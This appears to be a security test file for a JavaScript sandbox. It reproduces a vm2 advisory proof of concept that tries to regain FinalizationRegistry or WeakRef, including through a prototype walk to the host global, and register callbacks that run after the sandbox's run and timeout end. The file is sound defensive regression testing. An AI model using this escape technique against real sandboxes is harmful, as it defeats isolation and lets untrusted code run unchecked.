// Source: vm2 test/ghsa/GHSA-r4fx-v8hh-22mv (fixed after vm2 3.11.2, by 3.12.2; PoC shape from vm2's
// lib/setup-sandbox.js comment for it): FinalizationRegistry cleanup callbacks (and WeakRef) run
// sandbox code whenever the garbage collector decides, after run() returned and outside its timeout.
// This sandbox removes FinalizationRegistry too; what a run leaves behind must not act later.
// Tried: recover FinalizationRegistry / WeakRef (global, constructor walks from instances, another
// realm's copy through the host Object) and register callbacks that retry the escape.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = { FinalizationRegistry: typeof FinalizationRegistry, WeakRef: typeof WeakRef };
const candidates = [];
try { candidates.push(globalThis.FinalizationRegistry); } catch (e) {}
try { candidates.push(Function('return this')().FinalizationRegistry); } catch (e) {}
try {
  const g = ({}).__lookupGetter__;
  const a = Buffer.apply;
  const raw = a.apply(g, [Buffer, ['__proto__']]);
  const p = typeof raw === 'function' ? raw : { call: (x) => Object.getPrototypeOf(x) };
  const hostGlobalThis = p.call(p.call(a)).constructor.constructor('return this')();
  candidates.push(hostGlobalThis && hostGlobalThis.FinalizationRegistry);
} catch (e) { out.walk = String(e.message).slice(0, 60); }
if (typeof WeakRef === 'function') { try { candidates.push(Object.getPrototypeOf(new WeakRef({})).constructor); } catch (e) {} }
for (const FR of candidates) {
  if (typeof FR !== 'function') continue;
  try {
    const registry = new FR(() => { __wr.use(globalThis, 'finalization callback'); globalThis.__wrLate = 'finalizer'; });
    for (let i = 0; i < 1000; i++) registry.register({ i }, i);
    out.registered = (out.registered || 0) + 1;
  } catch (e) { out.register = String(e.message).slice(0, 60); }
}
const garbage = [];
for (let i = 0; i < 200; i++) garbage.push(new Array(1000).fill(i));
return out;
